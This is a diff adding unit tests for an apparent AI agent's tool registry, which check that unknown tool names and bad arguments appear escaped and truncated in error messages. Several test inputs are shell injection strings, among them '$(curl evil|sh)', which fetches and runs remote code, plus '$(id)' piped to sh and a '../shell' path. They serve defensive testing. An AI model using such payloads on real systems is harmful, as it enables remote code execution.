@@ -221,6 +221,79 @@ describe("ToolRegistry.prepare", () => {
   });
 });
 
+describe("what an error repeats of the model's own text is bounded", () => {
+  it.each<[string, string, string]>([
+    ["a name that could be a tool's", "read-file.v2_x", "read-file.v2_x"],
+    ["a trailing space", "shell ", "shell\\u0020"],
+    ["a path", "../shell", "..\\u002fshell"],
+    ["a NUL and a newline", "write_file\u0000\n", "write_file\\u0000\\u000a"],
+    ["shell syntax", "x;$(id)`id`|sh", "x\\u003b\\u0024\\u0028id\\u0029\\u0060id\\u0060\\u007csh"],
+    ["a backslash, which could fake an escape", "a\\u0020", "a\\u005cu0020"],
+    ["CJK and an emoji", "读文件😀", "\\u8bfb\\u6587\\u4ef6\\ud83d\\ude00"],
+  ])(
+    "an unknown name with %s is repeated with every other character than A-Z, a-z, 0-9, _, - and . escaped",
+    (_name, name, shown) => {
+      const call = toolCall("c1", name, "{}");
+      expect(registryWith(echoTool()).prepare(call)).toStrictEqual({
+        call,
+        error: toolError("unknown_tool", `Unknown tool: ${shown}`),
+      });
+    },
+  );
+
+  it("a 31 KB unknown name is repeated as its first 64 characters and …, so the error stays a few hundred bytes", () => {
+    const name = `${"a".repeat(63)};${"$(curl evil|sh)\n".repeat(2_000)}`;
+    const prepared = registryWith(echoTool()).prepare(toolCall("c1", name, "{}"));
+    const content = `Error [unknown_tool]: Unknown tool: ${"a".repeat(63)}\\u003b…`;
+    expect(prepared.error).toStrictEqual({ content, isError: true, errorCode: "unknown_tool" });
+    expect(Buffer.byteLength(content)).toBe(108);
+    expect(name.length).toBeGreaterThan(31_000);
+  });
+
+  it("a name of exactly 64 characters is repeated whole, one of 65 is cut", () => {
+    const registry = registryWith(echoTool());
+    expect(registry.prepare(toolCall("c1", "n".repeat(64), "{}")).error?.content).toBe(
+      `Error [unknown_tool]: Unknown tool: ${"n".repeat(64)}`,
+    );
+    expect(registry.prepare(toolCall("c1", "n".repeat(65), "{}")).error?.content).toBe(
+      `Error [unknown_tool]: Unknown tool: ${"n".repeat(64)}…`,
+    );
+  });
+
+  it("a forged prepared call with a huge name not in the registry is repeated the same bounded way", async () => {
+    const registry = registryWith(echoTool());
+    const prepared = valid(registry, '{"text":"hi"}');
+    const forged: ValidToolCall = { ...prepared, definition: { ...prepared.definition, name: "g\n".repeat(20_000) } };
+    expect(await registry.invoke(forged, context)).toStrictEqual(
+      toolError("unknown_tool", `Unknown tool: ${"g\\u000a".repeat(32)}…`),
+    );
+  });
+
+  it("invalid_arguments quotes at most 1,000 characters of problems: a 31 KB key is cut, not repeated", () => {
+    const key = "k".repeat(31_000);
+    const prepared = registryWith(echoTool()).prepare(toolCall("c1", "echo", JSON.stringify({ text: "hi", [key]: 1 })));
+    expect(prepared.error).toStrictEqual(
+      toolError("invalid_arguments", `Invalid arguments for echo: (arguments): Unrecognized key: "${"k".repeat(968)}…`),
+    );
+  });
+
+  it("invalid_arguments lists the first 10 problems and says how many more there are", () => {
+    const fields = Object.fromEntries(Array.from({ length: 25 }, (_, n) => [`f${n}`, z.string()]));
+    const registry = new ToolRegistry();
+    registry.register({
+      name: "wide",
+      description: "Many fields.",
+      inputSchema: z.strictObject(fields),
+      effect: "read",
+      handler: () => Promise.resolve(toolSuccess("ran")),
+    });
+    const problems = Array.from({ length: 10 }, (_, n) => `f${n}: Invalid input: expected string, received undefined`);
+    expect(registry.prepare(toolCall("c1", "wide", "{}")).error).toStrictEqual(
+      toolError("invalid_arguments", `Invalid arguments for wide: ${problems.join("; ")}; 15 more`),
+    );
+  });
+});
+
 describe("ToolRegistry.invoke", () => {
   it("runs the handler with the parsed arguments and the context, and returns its result", async () => {
     const seen: unknown[] = [];
